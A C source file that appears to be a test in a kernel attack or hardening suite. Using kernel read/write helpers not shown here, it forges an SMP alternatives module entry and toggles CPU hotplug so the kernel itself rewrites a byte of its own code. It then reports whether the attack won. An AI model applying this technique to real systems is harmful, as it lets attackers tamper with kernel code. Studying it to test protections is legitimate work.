// SPDX-License-Identifier: GPL-2.0-only
/*
 * A kernel that booted on one CPU has no lock prefixes in its text, and puts them in when
 * a second CPU starts. That it has none, and where they belong, is said by ordinary
 * memory: a bit, a list and arrays of offsets. Each byte 0x3e of text becomes 0xf0.
 */
#include <unistd.h>

#include "attack.h"
#include "list.h"
#include "objects.h"
#include "patching.h"

#ifdef __x86_64__
#define PATCHED		"uniproc_patched"
#define MODULES		"smp_alt_modules"
#define LOOKED_AT	320	/* less than either has */
#define DS_PREFIX	0x3e
#define LOCK_PREFIX	0xf0

/* Nobody runs these here. */
static const char *const idle_functions[] = {
	"pnp_check_port", "__dev_ethtool",
};

/* struct smp_alt_module */
struct smp_module {
	uint64_t mod, name, locks, locks_end, text, text_end, next, prev;
};

static uint64_t find_byte(void)
{
	unsigned char code[LOOKED_AT];
	uint64_t at;
	size_t i, j;

	for (i = 0; i < sizeof(idle_functions) / sizeof(*idle_functions); i++) {
		at = ksymbol(idle_functions[i]);
		if (!at || kread(at, code, sizeof(code)))
			continue;
		for (j = 0; j < LOOKED_AT; j++)
			if (code[j] == DS_PREFIX)
				return at + j;
	}
	return 0;
}

enum outcome smp_locks(void)
{
	uint64_t patched = ksymbol(PATCHED), list = ksymbol(MODULES), byte = find_byte();
	uint64_t locks = room_near_text(), next, prev;
	unsigned char now = 0, yes = 1, no = 0;
	struct smp_module module = { 0 };
	struct kernel_page page;
	int offset;

	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return skipped("needs a second CPU");
	if (!patched || !list || !byte || !locks || !kernel_page(&page))
		return broken("no list, or no byte that could be a prefix");
	offset = byte - locks;
	module = (struct smp_module) {
		.locks = locks, .locks_end = locks + sizeof(offset),
		.text = byte, .text_end = byte + 1,
		.next = list, .prev = list,
	};
	next = kread64(list);
	prev = kread64(list + 8);
	kwrite(locks, &offset, sizeof(offset));
	kwrite(page.addr, &module, sizeof(module));
	hotplug_cpu(false);
	kwrite64(list, page.addr + offsetof(struct smp_module, next));
	kwrite64(list + 8, page.addr + offsetof(struct smp_module, next));
	kwrite(patched, &yes, sizeof(yes));
	hotplug_cpu(true);
	kwrite(patched, &no, sizeof(no));
	kwrite64(list, next);
	kwrite64(list + 8, prev);
	offset = 0;
	kwrite(locks, &offset, sizeof(offset));
	kread(byte, &now, sizeof(now));
	if (now == LOCK_PREFIX)
		return won("uid %d changed text of the kernel: the byte at 0x%lx was 0x3e, and is 0x%x",
			   getuid(), byte, now);
	return lost("the byte at 0x%lx is 0x%x", byte, now);
}
#else
enum outcome smp_locks(void)
{
	return skipped("x86-64 only");
}
#endif
